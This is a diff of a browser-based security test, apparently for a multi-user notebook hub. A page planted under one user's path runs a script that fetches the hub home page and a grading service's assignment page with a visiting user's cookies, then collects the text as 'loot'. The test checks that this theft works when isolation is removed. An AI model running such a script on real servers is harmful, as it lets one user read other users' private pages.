@@ -19,7 +19,7 @@ PAGE = f"""<!doctype html><title>{SECRET}</title><p id=loot></p><script>
 (async () => {{
   let loot = "";
   for (const page of ["/hub/home", "/services/kireji/formgrader/manage_assignments"])
-    loot += (await (await fetch(page)).text());
+    loot += (await (await fetch(page, {{mode: "no-cors"}})).text());
   document.getElementById("loot").textContent = loot;
   document.title = "done";
 }})();
@@ -121,8 +121,9 @@ def test_without_a_door_her_page_reads_with_their_cookies(
 ) -> None:
     """The attack works where the wall is taken away."""
     page = visitor(who, False)
-    page.goto(f"{address_of(page)}/services/kireji/formgrader")  # as somebody who has worked there
-    page.goto(f"{page.url.split('/services')[0].split('/hub')[0]}/user/alice/evil")
+    address = address_of(page)
+    page.goto(f"{address}/services/kireji/formgrader")  # as somebody who has worked there
+    page.goto(f"{address}/user/alice/evil")
     page.wait_for_function("document.title == 'done'")
     assert loot in page.locator("#loot").text_content()
 
